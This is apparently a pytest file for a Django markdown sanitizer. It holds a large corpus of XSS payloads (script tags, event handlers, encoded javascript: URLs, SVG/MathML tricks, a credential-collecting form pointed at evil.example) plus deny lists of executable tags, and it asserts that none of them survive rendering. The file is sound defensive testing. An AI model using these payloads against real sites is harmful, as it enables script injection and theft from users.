"""The one markdown pipeline: useful markup survives, nothing executable does."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings

from iopguide.guide.markdown import plain_text, removed_text, render, render_markdown

# Hostile markdown an editor's account (or a pasted snippet) could carry.
XSS_CORPUS = [
    # script and style
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<a href="/guide/" onclick="alert(1)">click</a>',
    "<div onmouseover='alert(1)'>hover</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "Text{: onclick=alert(1) }",
    "## Heading {: onmouseover=alert(1) style=color:red }",
    # javascript:, vbscript:, data: URLs in links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ref link][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">raw</a>',
    '<a href=" &#14;javascript:alert(1)">raw</a>',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '[x](https://ok.example/ "title" onclick=alert(1))',
    # SVG and MathML
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # embedding, forms and page-level tricks
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<a href="https://ok.example/" target="_blank">opener</a>',
    # encoded and broken-up variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x\nonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror  =  "alert(1)">',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    # zero-padded decimal entities without semicolons
    '<a href="' + "".join(f"&#{ord(c):07d}" for c in "javascript:") + 'alert(1)">x</a>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div id="x" class="toc footnote evil">classes</div>',
    '<h2 id="javascript:alert(1)">id</h2>',
    "`<script>alert(1)</script>` and\n\n    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
]

EXECUTABLE_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "textarea", "select", "base", "meta", "link", "template",
    "noscript", "video", "audio", "source", "body", "html", "head",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
C0_AND_SPACE = "".join(map(chr, range(0x21)))
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def browser_url(value: str) -> str:
    # Browsers trim leading and trailing C0 controls and spaces and drop tabs and newlines.
    return re.sub(r"[\t\n\r]", "", value.strip(C0_AND_SPACE))


def assert_inert(html: str) -> None:
    for tag, attrs in Elements(html).found:
        assert tag not in EXECUTABLE_TAGS, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            assert name not in {"style", "target", "srcdoc"}, html
            if name in URL_ATTRIBUTES:
                url = browser_url(value or "")
                scheme = SCHEME.match(url)
                assert scheme is None or scheme[1].lower() in SAFE_SCHEMES, html
                if tag == "img":  # our own images only
                    assert re.match(r"^/(?![/\\])", url), html


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_nothing_executable_survives_the_pipeline(source):
    body, toc = render(source)
    for html in (body, toc, render_markdown(source)):
        assert_inert(html)


def test_the_xss_check_itself_catches_executable_markup():
    for hostile in (
        "<script>x</script>",
        '<a href=" JaVa\tScript:x">a</a>',
        '<img src="https://tracker.example/p.gif">',
        "<p onclick=x>a</p>",
    ):
        with pytest.raises(AssertionError):
            assert_inert(hostile)


def test_only_known_classes_survive():
    body, _ = render('<div class="toc footnote evil">x</div>')
    assert 'class="toc footnote"' in body


def test_headings_get_anchors_and_a_table_of_contents():
    body, toc = render("## Why it matters\n\ntext\n\n### 12-step groups\n\nmore")
    assert '<h2 id="why-it-matters">Why it matters</h2>' in body
    assert '<h3 id="12-step-groups">12-step groups</h3>' in body
    assert toc.startswith("<ul>") and toc.endswith("</ul>")
    assert 'href="#why-it-matters"' in toc and 'href="#12-step-groups"' in toc


def test_an_article_without_headings_has_no_table_of_contents():
    assert render("Just a paragraph.")[1] == ""


def test_tables_align_with_attributes_not_inline_styles():
    body, _ = render("| Level | Hours |\n|:---|---:|\n| IOP | 9-19 |")
    assert "<table>" in body
    assert '<td align="right">9-19</td>' in body
    assert "style=" not in body


def test_footnotes_link_both_ways():
    body, _ = render("A fact.[^1]\n\n[^1]: Where it comes from.")
    assert 'id="fnref:1"' in body and 'href="#fn:1"' in body
    assert 'id="fn:1"' in body and 'href="#fnref:1"' in body
    assert '<div class="footnote">' in body


def test_links_keep_safe_schemes_and_get_rel():
    body, _ = render("[a](https://nida.nih.gov/) [b](/guide/faq/) [c](tel:988) [d](mailto:x@y.org)")
    for href in ('"https://nida.nih.gov/"', '"/guide/faq/"', '"tel:988"', '"mailto:x@y.org"'):
        assert f"href={href}" in body
    assert 'rel="noopener noreferrer"' in body


def test_site_images_are_kept_and_third_party_images_lose_their_source():
    body, _ = render("![chart](/media/guide/chart.png) ![pixel](https://tracker.example/p.gif)")
    assert '<img alt="chart" src="/media/guide/chart.png">' in body
    assert "tracker.example" not in body


def test_plain_text_has_no_markup_or_footnote_links():
    body, _ = render("## Costs &amp; care\n\nA *bold* claim.[^1]\n\n[^1]: A source.")
    assert plain_text(body) == "Costs & care A bold claim. A source."


def test_every_table_of_contents_link_in_content_has_its_anchor():
    for path in sorted(Path(settings.CONTENT_DIR).glob("*.md")):
        body, toc = render(path.read_text(encoding="utf-8").split("\n---\n", 1)[1])
        anchors = set(re.findall(r'id="([^"]+)"', body))
        links = re.findall(r'href="#([^"]+)"', toc + body)
        assert set(links) <= anchors, (path.name, set(links) - anchors)


def test_fenced_code_blocks_render_as_code():
    body, _ = render("Type this:\n\n```\nmake test\n<b>not bold</b>\n```\n\nThen wait.")
    assert "<pre><code>make test\n&lt;b&gt;not bold&lt;/b&gt;\n</code></pre>" in body
    assert "Then wait." in body


@pytest.mark.parametrize(
    ("source", "report"),
    [
        (
            "Intro.\n\n<SCRIPT SRC=//x>\n\nTwelve words follow here and "
            "readers would never see one of them.",
            "12 words after an unclosed <script> tag were removed",
        ),
        (
            "Intro.\n\n<math><style>\n\nThese four words vanish.",
            "after an unclosed <math> tag were removed",
        ),
        ("Intro <script>alert</script> end.", "1 word inside a <script> tag was removed"),
    ],
)
def test_text_the_sanitizer_drops_is_reported(source, report):
    assert report in removed_text(source)


@pytest.mark.parametrize(
    "source",
    [
        "Plain words, *emphasis*, a [link](https://example.org) and a footnote.[^1]\n\n[^1]: A.",
        "| a | b |\n| :- | -: |\n| 1 | 2 |",
        "```\ncode\n```",
        "Words with <span>a tag we drop but whose text we keep</span>.",
    ],
)
def test_nothing_is_reported_when_every_word_survives(source):
    assert removed_text(source) is None
